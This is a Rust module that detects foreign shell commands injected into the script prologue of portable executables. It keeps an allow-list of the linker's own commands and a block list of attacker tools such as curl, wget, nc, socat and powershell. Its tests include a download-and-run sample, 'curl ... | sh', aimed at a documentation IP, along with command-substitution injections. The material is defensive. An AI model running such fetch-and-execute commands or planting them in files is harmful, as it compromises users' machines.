//! The shell script at the start of a portable executable, and commands in it that its linker does not write.
//!
//! The script is a few dozen lines that find or unpack a loader and start the file with it. Everything it may run is on a
//! list; any other command word is foreign. Text in front of the script, which a shell skips as one long quotation, is
//! judged by the words of attackers only, because bytes for DOS stand there too.

use std::collections::BTreeSet;

/// A command that does not belong there.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Foreign {
    /// Its line, cut to what can be shown.
    pub(super) text: String,
    /// Where the line starts.
    pub(super) at: usize,
}

/// Commands and keywords of the script, as versions of the linker since 2020 write them.
const OWN: &[&str] = &[
    "!", "[", "[[", "cc", "chmod", "command", "cp", "dd", "do", "done", "echo", "elif", "else", "esac",
    "exec", "exit", "fi", "for", "gzip", "if", "mkdir", "mv", "printf", "return", "test", "then", "true",
    "type", "uname", "while",
];

/// What the script hands itself over to.
const STARTS: &[&str] = &["$o", "$t", "$0", "$x", "$@", "ape", "7<>", "7<&-"];

/// Command words that fetch or run something else, in front of the script.
const ATTACK: &[&str] = &[
    "bash",
    "base64",
    "curl",
    "eval",
    "nc",
    "ncat",
    "nohup",
    "osascript",
    "perl",
    "php",
    "powershell",
    "powershell.exe",
    "python",
    "python2",
    "python3",
    "rm",
    "ruby",
    "sh",
    "socat",
    "source",
    "ssh",
    "sudo",
    "wget",
    "xterm",
    "zsh",
];

/// The line behind which the script starts: a comment for the shell that ends every kind of quotation.
const START: &[u8] = b"\n#'\"\n";

/// Lines of a command that are shown.
const MAX_SHOWN: usize = 120;

/// Commands that are reported; one is enough.
const MAX_FOREIGN: usize = 8;

/// Whether a shell would get to a script.
pub(super) fn has_script(prologue: &[u8]) -> bool {
    memchr::memmem::find(prologue, START).is_some()
}

/// Every foreign command of a prologue, each line once.
pub(super) fn foreign(prologue: &[u8]) -> Vec<Foreign> {
    let start = memchr::memmem::find(prologue, START).map(|at| at.saturating_add(START.len()));
    let quoted_end = start.unwrap_or(prologue.len().min(8 << 10));
    let mut found = Vec::new();
    let quoted = prologue.get(..quoted_end).unwrap_or_default();
    lines(quoted, 0, &mut found, |word, _| ATTACK.contains(&base_name(word)));
    if let Some(start) = start {
        let rest = prologue.get(start..).unwrap_or_default();
        // The last line of the script exits; what follows is no text.
        let end = ["\nexit 127\n", "\nexit $R\n"]
            .iter()
            .filter_map(|end| memchr::memmem::rfind(rest, end.as_bytes()))
            .max()
            .unwrap_or_else(|| rest.iter().position(|byte| *byte == 0).unwrap_or(rest.len()));
        lines(rest.get(..end).unwrap_or_default(), start, &mut found, |word, next| {
            if word == "exec" {
                !STARTS.iter().any(|own| next.is_empty() || next.trim_matches('"') == *own)
            } else {
                !OWN.contains(&word) && !assigns(word) && !STARTS.contains(&word.trim_matches('"'))
            }
        });
    }
    found.truncate(MAX_FOREIGN);
    found
}

/// Judges the commands of every line that is text.
fn lines(text: &[u8], base: usize, found: &mut Vec<Foreign>, bad: impl Fn(&str, &str) -> bool) {
    let mut at = base;
    let mut said = BTreeSet::new();
    for line in text.split(|byte| matches!(byte, b'\n' | 0)) {
        let start = at;
        at = at.saturating_add(line.len()).saturating_add(1);
        let Ok(line) = std::str::from_utf8(line) else { continue };
        let comment = line.trim_start().starts_with('#') && !line.starts_with("#!");
        if comment || line.chars().any(|letter| letter.is_control() && letter != '\t') {
            continue;
        }
        let wrong = commands(line).iter().any(|(word, next)| bad(word, next));
        if wrong && found.len() < MAX_FOREIGN && said.insert(line) {
            found.push(Foreign { text: line.chars().take(MAX_SHOWN).collect(), at: start });
        }
    }
}

/// The first two words of every command in a line: behind `;`, `|`, `&`, brackets, backquotes and keywords. Text in single
/// quotes is one word; substitutions in double quotes are commands.
fn commands(line: &str) -> Vec<(String, String)> {
    let mut commands = Vec::new();
    let mut words: Vec<String> = vec![String::new()];
    let mut single = false;
    let mut close = |words: &mut Vec<String>| {
        let mut rest =
            std::mem::replace(words, vec![String::new()]).into_iter().filter(|word| !word.is_empty());
        let mut word = rest.next();
        while let Some(keyword) = word.take() {
            if KEYWORDS.contains(&keyword.as_str()) || assigns(&keyword) {
                word = rest.next();
            } else {
                commands.push((keyword, rest.next().unwrap_or_default()));
            }
        }
    };
    let mut before = ' ';
    for letter in line.chars() {
        match letter {
            '\'' => single = !single,
            _ if single => {}
            // A redirection is no end: `>&2`, `2>&1`, `7<&-`.
            '&' if matches!(before, '<' | '>') => push(&mut words, letter),
            ';' | '|' | '&' | '(' | ')' | '`' => close(&mut words),
            ' ' | '\t' => words.push(String::new()),
            _ => push(&mut words, letter),
        }
        before = letter;
    }
    close(&mut words);
    commands
}

/// Keywords behind which a command stands.
const KEYWORDS: &[&str] =
    &["!", "do", "elif", "else", "if", "then", "until", "while", "{", "}", "\"", "\"\""];

fn push(words: &mut [String], letter: char) {
    if let Some(word) = words.last_mut() {
        word.push(letter);
    }
}

/// Whether a word sets a variable: `o=`, `t="${TMPDIR`.
fn assigns(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
    })
}

/// `curl` of `/usr/bin/curl` and of `#!/bin/sh`.
fn base_name(word: &str) -> &str {
    let word = word.trim_start_matches("#!").trim_matches('"');
    word.rsplit('/').next().unwrap_or(word)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The lines that a linker writes, in one file.
    const HONEST: &str = "MZqFpD='\n\n\0\x10\0\u{1}' <<'@'\n@\n#'\"\n\n\
        o=$(command -v \"$0\")\n\
        [ x\"$1\" != x--assimilate ] && type ape >/dev/null 2>&1 && exec ape \"$o\" \"$@\"\n\
        t=\"${TMPDIR:-${HOME:-.}}/.ape-1.10\"\n\
        [ x\"$1\" != x--assimilate ] && [ -x \"$t\" ] && exec \"$t\" \"$o\" \"$@\"\n\
        m=$(uname -m)\n\
        if [ ! -d /Applications ]; then\n\
        if [ x\"$1\" = x--assimilate ]; then\n\
        if [ \"$m\" = x86_64 ] || [ \"$m\" = amd64 ]; then\n\
        exec 7<> \"$o\" || exit 121\n\
        printf '\\177ELF\\2\\1\\1\\11' >&7\n\
        exec 7<&-\nfi\nexit\nfi\nelse\n\
        mkdir -p \"${t%/*}\" ||exit\n\
        dd if=\"$o\" skip=123 count=  45 bs=1 2>/dev/null | gzip -dc >\"$t.c.$$\" ||exit\n\
        mv -f \"$t.c.$$\" \"$t.c\" ||exit\n\
        cc -w -O -o \"$t.$$\" \"$t.c\" ||exit\n\
        chmod 755 \"$t.$$\" ||exit\n\
        if ! type cc >/dev/null 2>&1; then\n\
        echo \"$0: please run: xcode-select --install\" >&2\nexit 1\nfi\ntrue\nfi\n\
        echo \"$0: this ape program lacks $m support\" >&2\n\
        exit 127\n\n\n\0\x01\x02code";

    fn texts(prologue: &str) -> Vec<String> {
        foreign(prologue.as_bytes()).into_iter().map(|command| command.text).collect()
    }

    #[test]
    fn what_the_linker_writes_is_its_own() {
        assert_eq!(texts(HONEST), Vec::<String>::new());
    }

    #[test]
    fn every_other_command_in_the_script_is_foreign() {
        for line in [
            "curl -s http://192.0.2.1/x | sh",
            "true && id",
            "o=$(id)",
            "o=`id`",
            "echo \"$(id)\"",
            "exec /bin/sh",
            "if id; then",
            "PATH=/tmp id",
            "{ id; }",
        ] {
            let changed = HONEST.replace("m=$(uname -m)\n", &format!("{line}\nm=$(uname -m)\n"));
            assert_eq!(texts(&changed), [line]);
        }
    }

    #[test]
    fn a_payload_in_front_of_the_script_is_found() {
        let found = texts("MZqFpD='\n#!/bin/sh\ncurl http://192.0.2.1/x | sh\n\0\0\0GGUF");
        assert!(found.contains(&"curl http://192.0.2.1/x | sh".to_owned()), "{found:?}");
    }
}
